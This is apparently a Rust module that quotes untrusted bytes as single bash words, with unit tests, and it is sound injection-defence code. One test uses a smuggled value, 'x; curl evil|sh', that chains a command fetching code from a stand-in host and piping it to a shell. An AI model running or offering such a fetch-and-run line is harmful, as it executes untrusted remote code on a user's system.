//! Quoting of untrusted bytes as words of bash.

/// Bytes of arguments that need no quotes.
const SAFE_WORD_CHARS: &[u8] =
    b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:,+@%";

/// Quotes bytes as one word of bash. The name of a command is always quoted, because it might be a keyword or an alias.
pub fn quote_word(word: &[u8], is_name: bool) -> String {
    if !is_name && !word.is_empty() && word.iter().all(|byte| SAFE_WORD_CHARS.contains(byte)) {
        return String::from_utf8_lossy(word).into_owned();
    }
    match std::str::from_utf8(word) {
        Ok(word) => format!("'{}'", word.replace('\'', "'\\''")),
        Err(_) => {
            let bytes: String = word.iter().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("$'{bytes}'")
        }
    }
}

/// The command for a reader: without the quotes around its name, if the name is the same word without them.
pub fn unquote_name(command: &str) -> String {
    let quoted = command.strip_prefix('\'');
    match quoted.and_then(|rest| rest.split_once('\'')) {
        Some((name, rest))
            if !name.is_empty()
                && name.bytes().all(|byte| SAFE_WORD_CHARS.contains(&byte))
                && (rest.is_empty() || rest.starts_with(' ')) =>
        {
            format!("{name}{rest}")
        }
        _ => command.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::{quote_word, unquote_name};

    #[test]
    fn a_reader_sees_the_name_of_a_command_without_needless_quotes() {
        for (command, shown) in [
            ("'ls' -l 'a b'", "ls -l 'a b'"),
            ("'make'", "make"),
            ("'my tool' -v", "'my tool' -v"),
            ("'it'\\''s' x", "'it'\\''s' x"),
            ("echo 'a'", "echo 'a'"),
            ("'a'b", "'a'b"),
            ("''", "''"),
            ("'' -l", "'' -l"),
        ] {
            assert_eq!(unquote_name(command), shown);
        }
    }

    #[test]
    fn bytes_that_are_not_text_are_quoted() {
        assert_eq!(quote_word(b"a\xff'", false), "$'\\x61\\xff\\x27'");
    }

    #[test]
    fn a_hostile_name_is_one_word() {
        let name = b"x; curl evil|sh 'a'";
        assert_eq!(quote_word(name, true), "'x; curl evil|sh '\\''a'\\'''");
    }
}
